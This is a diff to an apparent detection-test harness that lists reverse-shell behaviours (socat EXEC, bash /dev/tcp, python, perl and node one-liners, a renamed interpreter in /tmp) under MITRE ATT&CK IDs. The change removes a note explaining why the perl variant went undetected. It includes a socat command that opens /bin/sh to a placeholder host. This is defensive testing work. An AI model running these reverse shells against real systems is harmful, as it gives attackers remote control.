@@ -253,7 +253,7 @@ BEHAVIOURS: list[Behaviour] = [
     Behaviour(EX, "T1059.004", "netcat with -e", "socat EXEC", ("Netcat remote code execution",), lambda lab: lab.ctx.helper("pass", name="socat", args=("TCP:192.0.2.2:1", "EXEC:/bin/sh"))),
     Behaviour(EX, "T1059.004", "reverse shell", "bash /dev/tcp", (OUT, REDIR), ("bash", "-c", REV_BASH), where="network"),
     Behaviour(EX, "T1059.006", "reverse shell", "interpreter (python3 -c)", (OUT, REDIR), py(REV_PY), where="network"),
-    Behaviour(EX, "T1059", "reverse shell", "interpreter (perl -e)", (OUT, REDIR), ("perl", "-e", REV_PERL), where="network", miss={REDIR: "perl duplicates the socket with fcntl(F_DUPFD_CLOEXEC) before dup2; the fd table does not follow fcntl duplicates, so dup2's source is not known as a socket (state/fds)"}),
+    Behaviour(EX, "T1059", "reverse shell", "interpreter (perl -e)", (OUT, REDIR), ("perl", "-e", REV_PERL), where="network"),
     Behaviour(EX, "T1059.007", "reverse shell", "interpreter (node -e)", (OUT,), ("node", "-e", REV_NODE), where="network"),
     Behaviour(EX, "T1059.006", "reverse shell", "thread", (OUT, REDIR), py(THREAD.format("exec(" + repr(REV_PY) + ")")), where="network"),
     Behaviour(EX, "T1059.006", "reverse shell", "renamed copy of python3 in /tmp", (OUT, REDIR), _renamed("python3", "updater", "-c", REV_PY), where="network"),
